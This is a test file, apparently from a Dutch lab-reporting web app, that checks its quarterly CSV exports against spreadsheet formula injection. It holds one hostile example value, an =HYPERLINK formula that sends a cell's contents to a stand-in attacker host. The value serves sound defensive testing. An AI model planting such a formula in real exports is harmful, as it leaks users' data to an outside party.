import { binary, GOLDEN_QUARTER, type GoldenLab, withGoldenLab } from '../support/golden-lab';
import type { TestApp } from '../support/test-app';

// A title or a note written as a formula reaches the council's CSV as text, never as a live formula
// (OWASP CSV injection): in the live report and in the frozen version alike.

let t: TestApp;
let g: GoldenLab;
withGoldenLab((app, lab) => { t = app; g = lab; });

const FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Klik hier")';
const csvOf = async (path: string) => (await t.http.get(path).buffer(true).parse(binary)).body.toString('utf8');
/** Every cell of an RFC 4180 CSV (comma, or the Dutch dialect's semicolon), unquoted. */
function cells(csv: string, separator = ','): string[] {
  const out: string[] = [];
  const re = new RegExp(`("((?:[^"]|"")*)"|[^${separator}\\r\\n]*)(${separator}|\\r\\n|$)`, 'g');
  for (let m = re.exec(csv.replace(/^\uFEFF/, '')); m && m[0] !== ''; m = re.exec(csv)) {
    out.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
  }
  return out;
}

describe('formulas in what the report prints', () => {
  beforeAll(async () => {
    const [project] = (await t.http.get(`/api/projects?filter=${encodeURIComponent(JSON.stringify({ labId: g.lab.id }))}&sort=["code","ASC"]&range=[0,0]`)).body;
    const res = await t.http.put(`/api/projects/${project.id}`).send({ version: project.version, title: FORMULA, summary: '+31 20 000 0000', targetGroup: '@iedereen' });
    expect(res.status).toBe(200);
  });

  it.each([['Dutch Excel', '', ';'], ['machine', '&dialect=machine', ',']])(
    'are text in the live CSV for %s: no cell starts with = + - @, the title is kept behind an apostrophe',
    async (_dialect, query, separator) => {
      const all = cells(await csvOf(`/api/reports/quarterly?lab=${g.lab.id}&quarter=${GOLDEN_QUARTER}&format=csv${query}`), separator);
      expect(all).toContain(`'${FORMULA}`);
      const live = all.filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-\d+([.,]\d+)?$/.test(c)));
      expect(live).toEqual([]);
    },
  );

  it('are text in the frozen CSV the council receives', async () => {
    const frozen = await t.http.post('/api/reports/quarterly/freeze').send({ lab: g.lab.id, quarter: GOLDEN_QUARTER });
    expect(frozen.status).toBe(201);
    const all = cells(await csvOf(`/api/reports/quarterly/versions/${frozen.body.id}?format=csv`), ';');
    expect(all).toContain(`'${FORMULA}`);
    expect(all.filter((c) => c.startsWith('='))).toEqual([]);
  });
});
